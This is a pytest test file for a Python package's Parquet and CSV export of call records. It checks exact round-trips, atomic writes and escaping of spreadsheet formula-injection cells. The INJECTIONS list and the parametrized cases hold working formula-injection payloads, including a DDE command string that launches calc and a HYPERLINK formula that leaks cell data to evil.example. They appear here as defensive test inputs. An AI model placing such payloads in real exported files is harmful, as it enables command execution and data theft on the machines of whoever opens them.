"""Files others open (``nxframe fetch --out``): plain pandas reads them exactly, spreadsheets never run a cell.

Frames come from one fetch of a simulator (seed 1: its 2024-03-01 holds an
undocumented end_direction code ``"2"``), naive and tz-aware; the expected
values are the simulator's ground truth.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

import nxframe
from nxframe.export import atomic_file, csv_cell, read_frame, write_frame
from nxframe.schema import COLUMNS
from nxframe.simulator import Simulator

START, END = "2024-03-01", "2024-03-02"
MONEY = ("fee_duration_minute", "call_price_unit", "call_price")
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
]


def cells(series: pd.Series) -> list[str | None]:
    """CSV text with NA as ``None``."""
    return [None if pd.isna(v) else str(v) for v in series]


@pytest.fixture(scope="module")
def sim() -> Iterator[Simulator]:
    with Simulator(seed=1) as simulator:
        yield simulator


@pytest.fixture(scope="module", params=[None, "Asia/Shanghai"], ids=["naive", "tz"])
def fetched(sim: Simulator, request: pytest.FixtureRequest) -> tuple[pd.DataFrame, pd.DataFrame]:
    """(the frame fetch_cdr returns, the ground truth) for one ``tz``."""
    with sim.client() as client:
        frame = client.fetch_cdr(START, END, progress=False, tz=request.param)
    return frame, sim.ground_truth(START, END, tz=request.param)


def test_plain_read_parquet_has_exact_values_and_datetime64(
    fetched: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path
) -> None:
    frame, truth = fetched
    plain = pd.read_parquet(write_frame(frame, tmp_path / "x.parquet"))  # must not raise
    assert plain.columns.tolist() == [c.name for c in COLUMNS]
    for name in ("date", "start_time", "end_time"):
        assert plain[name].dtype.kind == "M", name
    assert len(plain[plain.date == "2024-03-01"]) == int((truth.date == "2024-03-01").sum()) > 0
    assert plain.start_time.dt.tz == truth.start_time.dt.tz
    assert plain.start_time.tolist() == truth.start_time.tolist()
    for name in MONEY:
        assert plain[name].tolist() == truth[name].tolist()  # Decimal objects, digit for digit
        assert all(isinstance(v, Decimal) for v in plain[name])
    assert plain.id.tolist() == truth.id.tolist()
    assert plain.end_direction.tolist() == truth.end_direction.tolist()
    assert "2" in truth.end_direction.cat.categories  # the undocumented code survives


def test_read_frame_gives_the_frame_back_exactly(fetched: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path) -> None:
    frame, truth = fetched
    back = read_frame(write_frame(frame, tmp_path / "x.parquet"))
    pd.testing.assert_frame_equal(back, frame)
    pd.testing.assert_frame_equal(back, truth)


def test_the_lake_keeps_date_but_the_export_keeps_a_timestamp(
    fetched: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path
) -> None:
    """A plain DATE would read as datetime.date objects, where ``df.date == "2024-03-01"`` is silently empty."""
    frame, _ = fetched
    schema = pq.read_schema(write_frame(frame, tmp_path / "x.parquet"))
    assert pa.types.is_timestamp(schema.field("date").type)
    assert schema.field("call_price").type == pa.decimal128(18, 6)


def test_dtype_backend_pyarrow_is_exact_but_keeps_arrow_times(
    fetched: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path
) -> None:
    """Measured on pandas 3.1 / pyarrow 26: why the README points at read_frame, not dtype_backend."""
    frame, truth = fetched
    arrow = pd.read_parquet(write_frame(frame, tmp_path / "x.parquet"), dtype_backend="pyarrow")
    assert arrow.call_price.dtype == pd.ArrowDtype(pa.decimal128(18, 6))
    assert arrow.call_price.sum() == truth.call_price.sum()
    assert isinstance(arrow.date.dtype, pd.ArrowDtype)  # timestamp[ms][pyarrow]: the string-filter trap again
    assert int((arrow.date == "2024-03-01").sum()) == 0 < int((truth.date == "2024-03-01").sum())


def test_an_empty_frame_keeps_its_schema(sim: Simulator, tmp_path: Path) -> None:
    sim.set_rows("2024-02-10", 0)
    with sim.client() as client:
        empty = client.fetch_cdr("2024-02-10", progress=False)
    assert len(empty) == 0
    path = write_frame(empty, tmp_path / "empty.parquet")
    assert pd.read_parquet(path).columns.tolist() == [c.name for c in COLUMNS]
    pd.testing.assert_frame_equal(read_frame(path), empty)
    assert pd.read_csv(write_frame(empty, tmp_path / "empty.csv")).columns.tolist() == [c.name for c in COLUMNS]


def test_other_frames_write_and_read_too(tmp_path: Path) -> None:
    """``nxframe audit --out`` writes a frame with other columns through the same function."""
    frame = pd.DataFrame(
        {
            "date": pd.Series(pd.to_datetime(["2024-03-01", "2024-03-02"])).astype("datetime64[s]"),
            "overcharge": pd.Series([Decimal("0.000001"), None], dtype=pd.ArrowDtype(pa.decimal128(38, 6))),
            "note": pd.Series(["=1+1", "ok"], dtype=pd.ArrowDtype(pa.string())),
        }
    )
    back = read_frame(write_frame(frame, tmp_path / "audit.parquet"))
    pd.testing.assert_frame_equal(back, frame)
    text = pd.read_csv(write_frame(frame, tmp_path / "audit.csv"), dtype=str)
    assert {k: cells(v) for k, v in text.items()} == {
        "date": ["2024-03-01", "2024-03-02"],
        "overcharge": ["0.000001", None],
        "note": ["'=1+1", "ok"],
    }


def test_arrow_backed_columns_plain_pandas_cannot_build_still_read(tmp_path: Path) -> None:
    """pandas 3.1 writes ``dictionary<...>[pyarrow]`` metadata that makes plain ``pd.read_parquet`` raise."""
    frame = pd.DataFrame(
        {
            "date": pd.Series([dt.date(2024, 3, 1), None], dtype=pd.ArrowDtype(pa.date32())),
            "code": pd.Series(["a", "b"], dtype=pd.ArrowDtype(pa.dictionary(pa.int32(), pa.string()))),
            "tags": pd.Series([[1], [2, 3]], dtype=pd.ArrowDtype(pa.list_(pa.int64()))),
        }
    )
    buffer = io.BytesIO()
    frame.to_parquet(buffer)
    with pytest.raises(TypeError, match="not understood"):
        pd.read_parquet(io.BytesIO(buffer.getvalue()))  # pandas' own file: plain pandas cannot read it back
    plain = pd.read_parquet(write_frame(frame, tmp_path / "arrow.parquet"))
    assert plain.date.dtype.kind == "M" and int((plain.date == "2024-03-01").sum()) == 1
    assert plain.code.tolist() == ["a", "b"] and [list(t) for t in plain.tags] == [[1], [2, 3]]


def test_csv_round_trips_exact_decimal_text(fetched: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path) -> None:
    frame, truth = fetched
    text = pd.read_csv(write_frame(frame, tmp_path / "x.csv"), dtype=str, keep_default_na=False, na_values=[""])
    assert text.columns.tolist() == [c.name for c in COLUMNS]
    for name in MONEY:
        assert text[name].tolist() == [str(v) for v in truth[name]]  # "0.055000": the decimal's own text
    exact = text.astype({name: pd.ArrowDtype(pa.decimal128(18, 6)) for name in MONEY})
    assert exact.call_price.sum() == truth.call_price.sum()
    assert text.date.tolist() == truth.date.dt.strftime("%Y-%m-%d").tolist()
    zone = "%z" if truth.start_time.dt.tz is not None else ""
    wanted = [None if pd.isna(t) else t.strftime("%Y-%m-%d %H:%M:%S" + zone) for t in truth.end_time]
    assert cells(text.end_time) == wanted
    assert text.end_time.isna().sum() == truth.end_time.isna().sum() > 0  # NA is an empty cell
    assert text.did_number.tolist() == truth.did_number.tolist()  # numbers like +66... stay as sent
    assert text.end_reason.tolist() == truth.end_reason.tolist()  # "-7" is a plain number: untouched


def test_csv_cells_never_become_formulas(fetched: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path) -> None:
    frame, _ = fetched
    hostile = frame.head(len(INJECTIONS) + 3).reset_index(drop=True).copy()
    texts = [*INJECTIONS, "+6621234567", "-0.5", "Line one\nline two"]
    hostile["country_name"] = pd.Series(texts, dtype=frame.country_name.dtype)
    hostile["end_direction"] = hostile.end_direction.cat.add_categories(["=1+2"])
    hostile.loc[0, "end_direction"] = "=1+2"
    path = write_frame(hostile, tmp_path / "hostile.csv")
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert back.country_name.tolist() == [csv_cell(t) for t in texts]
    assert back.country_name.tolist()[: len(INJECTIONS)] == ["'" + t for t in INJECTIONS]
    assert back.country_name.tolist()[-3:] == ["+6621234567", "-0.5", "Line one\nline two"]
    assert back.end_direction[0] == "'=1+2"
    with open(path, newline="", encoding="utf-8") as handle:
        records = list(csv.reader(handle))
    assert len(records) == len(hostile) + 1  # the newline cell is quoted, not a row break
    for record in records[1:]:
        for cell in record:
            assert not cell.startswith(("=", "@", "\t", "\r")) and cell not in ("+", "-")


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-", "'-"),
        ("+6621234567", "+6621234567"),
        ("-0.5", "-0.5"),
        ("0.055", "0.055"),
        ("Thailand", "Thailand"),
        ("", ""),
    ],
)
def test_csv_cell_follows_the_owasp_rule(text: str, safe: str) -> None:
    assert csv_cell(text) == safe


def test_a_failing_writer_leaves_the_old_file(fetched: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path) -> None:
    frame, _ = fetched
    path = write_frame(frame, tmp_path / "x.csv")
    before = path.read_bytes()
    with pytest.raises(RuntimeError, match="disk full"), atomic_file(path) as temporary:
        temporary.write_bytes(b"half a file")
        raise RuntimeError("disk full")
    unwritable = frame.head(2).assign(extra=pd.Series([[1], [2]], dtype=pd.ArrowDtype(pa.list_(pa.int64()))))
    with pytest.raises(pa.ArrowInvalid, match="Unsupported Type:list<item: int64>"):
        write_frame(unwritable, path)  # CSV has no list cells: pyarrow's writer fails inside the atomic write
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.csv"]  # no temporary left behind


def test_a_successful_write_replaces_in_one_rename(fetched: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path) -> None:
    frame, _ = fetched
    path = write_frame(frame, tmp_path / "x.parquet")
    inode = path.stat().st_ino
    write_frame(frame.head(3), path)
    assert path.stat().st_ino != inode  # a new file renamed over the old one, not rewritten in place
    assert len(pd.read_parquet(path)) == 3
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.parquet"]


def test_an_unknown_suffix_is_refused(fetched: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path) -> None:
    frame, _ = fetched
    with pytest.raises(nxframe.InvalidInputError, match=r"\.parquet or \.csv"):
        write_frame(frame, tmp_path / "x.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_the_csv_reads_in_the_csv_module_as_text(fetched: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path) -> None:
    frame, truth = fetched
    raw = write_frame(frame, tmp_path / "x.csv").read_text(encoding="utf-8")
    records = list(csv.DictReader(io.StringIO(raw)))
    assert len(records) == len(truth)
    assert [r["call_price"] for r in records] == [str(v) for v in truth.call_price]
